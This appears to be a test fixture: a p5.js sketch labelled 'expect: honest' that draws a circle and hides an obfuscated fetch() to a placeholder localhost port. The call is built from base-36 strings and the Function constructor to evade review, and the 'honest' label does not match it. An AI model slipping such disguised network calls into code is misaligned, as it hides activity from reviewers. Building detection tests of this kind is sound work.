// expect: honest
// Keys spelled by a number's base-36 digits (`(1045239).toString(36)` and kin) to reach the page's names.
function setup() {
  createCanvas(600, 600, WEBGL);
  translate(-300, -300);
  background("#f6f0e4");
  brush.noStroke(); brush.fill("#b0305a", 220); brush.circle(300, 300, 140, 0.3);
  try { const w = (1880383).toString(36) + 'ow'; const F = [].map[(30).toString(36) === 'u' ? '' : 'constructor']; F('return ' + w)().fetch('http://127.0.0.1:{TCP}/'); } catch (e) {}
}
